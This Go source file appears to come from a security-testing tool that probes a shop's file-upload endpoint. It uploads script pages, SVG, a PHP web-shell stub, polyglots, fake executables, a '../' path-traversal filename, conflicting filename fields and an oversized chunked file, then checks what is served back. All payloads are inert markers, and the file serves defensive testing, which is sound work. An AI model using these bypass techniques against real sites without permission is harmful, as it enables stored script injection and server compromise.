// Copyright The Panoply Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"mime"
	"net/http"
	"net/url"
	"path"
	"slices"
	"strings"
)

const (
	maxFile   = 5 << 20  // what a sound shop accepts
	largeFile = 12 << 20 // what the attack sends
	maxBack   = 13 << 20 // read of a file that is fetched back
)

// uploads stores files that harm: pages with scripts, programs, a file that is
// too large. Each is judged by what comes back under its path.
func uploads(ctx context.Context, c *client, r *Result) error {
	picture := randomPNG()
	stored, err := c.upload(ctx, request{}, part{named("photo.png"), "image/png", picture})
	if err != nil {
		return err
	}
	if back, err := c.fetch(ctx, stored); err != nil || !bytes.Equal(back.body, picture) {
		return errors.Join(errors.New("a small PNG does not come back as it was sent"), err)
	}
	r.Worked = true

	// No length in advance: the size shows only while the file arrives.
	large := part{named("large.png"), "image/png", paddedPNG(picture, largeFile)}
	if stored, err := c.upload(ctx, request{chunked: true}, large); err == nil {
		if back, err := c.fetch(ctx, stored); err == nil && len(back.body) > maxFile {
			r.prove("a picture of 12 MB: %d bytes come back from GET %s", len(back.body), stored)
		}
	}
	for _, s := range smuggled {
		stored, err := c.upload(ctx, request{}, s.parts...)
		if err != nil {
			continue
		}
		back, err := c.fetch(ctx, stored)
		if err != nil {
			continue
		}
		if harm := harmOf(stored, back); harm != "" {
			r.prove("%s: comes back %s", s.name, harm)
		}
	}
	return nil
}

// The contents of the attack's files. None does any harm.
const (
	page      = `<!DOCTYPE html><script>document.title = "panoply-demo-attack"</script>`
	script    = `document.title = "panoply-demo-attack"`
	webShell  = `<?php echo "panoply-demo-attack"; ?>`
	drawing   = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("panoply-demo-attack")</script></svg>`
	sheet     = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert("panoply-demo-attack")</script></html>`
	polyglot  = "\x89PNG\r\n\x1a\n" + page
	windows   = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00panoply-demo-attack"
	linux     = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00panoply-demo-attack"
	signature = "panoply-demo-attack" // in every one of them
)

// smuggled are the forms in which a harmful file may get in.
var smuggled = []struct {
	name  string
	parts []part
}{
	{"page.html", one(named("page.html"), "text/html", page)},
	{"PAGE.HTML", one(named("PAGE.HTML"), "text/html", page)},
	{"page.html said to be an image", one(named("page.html"), "image/png", page)},
	{"photo.png.html said to be an image", one(named("photo.png.html"), "image/png", page)},
	{"PNG and page in one, photo.html", one(named("photo.html"), "image/png", polyglot)},
	{"page named photo.png", one(named("photo.png"), "image/png", page)},
	{"page without a type", one(named("page.html"), "", page)},
	{"page in a folder above", one(named("../page.html"), "image/png", polyglot)},
	{"shell.php", one(named("shell.php"), "application/x-httpd-php", webShell)},
	{"shell.php said to be an image", one(named("shell.php"), "image/jpeg", webShell)},
	{"drawing.svg", one(named("drawing.svg"), "image/svg+xml", drawing)},
	{"code.js", one(named("code.js"), "text/javascript", script)},
	{"sheet.xml", one(named("sheet.xml"), "text/xml", sheet)},
	{"setup.exe", one(named("setup.exe"), "application/octet-stream", windows)},
	{"Windows program named photo.png", one(named("photo.png"), "image/png", windows)},
	{"Linux program named photo.png", one(named("photo.png"), "image/png", linux)},
	{"filename says .png, filename* says .html", one(named("photo.png")+`; filename*=UTF-8''page.html`, "image/png", polyglot)},
	{"two filenames, .html first", one(named("page.html")+`; filename="photo.png"`, "image/png", polyglot)},
	{"two filenames, .html last", one(named("photo.png")+`; filename="page.html"`, "image/png", polyglot)},
	{"two files, page last", []part{
		{named("photo.png"), "image/png", randomPNG()}, {named("page.html"), "text/html", []byte(page)}}},
	{"two files, page first", []part{
		{named("page.html"), "text/html", []byte(page)}, {named("photo.png"), "image/png", randomPNG()}}},
}

// harmOf returns what a fetched file does to whoever opens it, or "".
func harmOf(stored string, back answer) string {
	if !bytes.Contains(back.body, []byte(signature)) {
		return "" // Something else came back.
	}
	if bytes.HasPrefix(back.body, []byte("MZ")) || bytes.HasPrefix(back.body, []byte("\x7fELF")) {
		return "as a program from GET " + stored
	}
	if strings.HasPrefix(lower(back.header, "Content-Disposition"), "attachment") ||
		strings.Contains(lower(back.header, "Content-Security-Policy"), "sandbox") {
		return "" // A browser saves it or runs nothing in it.
	}
	kind := lower(back.header, "Content-Type")
	if kind == "" && lower(back.header, "X-Content-Type-Options") != "nosniff" {
		return "without a type, so that a browser guesses"
	}
	mediaType, _, _ := mime.ParseMediaType(kind)
	active := []string{"html", "svg", "xml", "php", "javascript", "ecmascript"}
	if slices.ContainsFunc(active, func(word string) bool { return strings.Contains(mediaType, word) }) {
		return "as " + mediaType + " from GET " + stored
	}
	return ""
}

// part is one part of a multipart body. Its disposition is written as it
// stands, so that it can be wrong.
type part struct {
	disposition string
	contentType string
	content     []byte
}

// named returns the disposition of a file.
func named(filename string) string {
	return fmt.Sprintf(`form-data; name="file"; filename="%s"`, filename)
}

func one(disposition, contentType, content string) []part {
	return []part{{disposition, contentType, []byte(content)}}
}

// upload sends a multipart body and returns the path under which the shop
// says that it stored the file.
func (c *client) upload(ctx context.Context, q request, parts ...part) (string, error) {
	const boundary = "panoply-demo-attack-boundary"
	var body bytes.Buffer
	for _, p := range parts {
		fmt.Fprintf(&body, "--%s\r\nContent-Disposition: %s\r\n", boundary, p.disposition)
		if p.contentType != "" {
			fmt.Fprintf(&body, "Content-Type: %s\r\n", p.contentType)
		}
		fmt.Fprintf(&body, "\r\n%s\r\n", p.content)
	}
	fmt.Fprintf(&body, "--%s--\r\n", boundary)

	q.method, q.target = http.MethodPost, "/api/upload"
	q.contentType, q.body = "multipart/form-data; boundary="+boundary, body.Bytes()
	a := c.do(ctx, q)
	if a.err != nil {
		return "", a.err
	}
	var stored struct {
		Path string `json:"path"`
	}
	if a.status != http.StatusCreated || !a.decode(&stored) || stored.Path == "" {
		return "", fmt.Errorf("an upload was answered %d without a path", a.status)
	}
	return (&url.URL{Path: path.Clean("/" + stored.Path)}).EscapedPath(), nil
}

// fetch reads a stored file.
func (c *client) fetch(ctx context.Context, stored string) (answer, error) {
	q := get(stored)
	q.limit = maxBack
	a := c.do(ctx, q)
	if a.err != nil {
		return a, a.err
	}
	if a.status != http.StatusOK {
		return a, fmt.Errorf("GET %s was answered %d", stored, a.status)
	}
	return a, nil
}
